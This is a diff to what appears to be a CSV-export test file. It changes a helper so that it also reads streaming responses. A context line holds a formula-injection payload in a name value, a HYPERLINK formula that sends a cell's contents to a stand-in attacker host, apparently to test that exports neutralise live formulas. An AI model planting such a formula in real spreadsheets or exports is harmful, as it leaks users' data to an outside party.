@@ -17,7 +17,15 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open") Lopez'
 
 
 def cells(response) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(response.content.decode())))
+    return list(
+        csv.reader(
+            io.StringIO(
+                (
+                    b"".join(response.streaming_content) if response.streaming else response.content
+                ).decode()
+            )
+        )
+    )
 
 
 def assert_no_live_formula(rows):
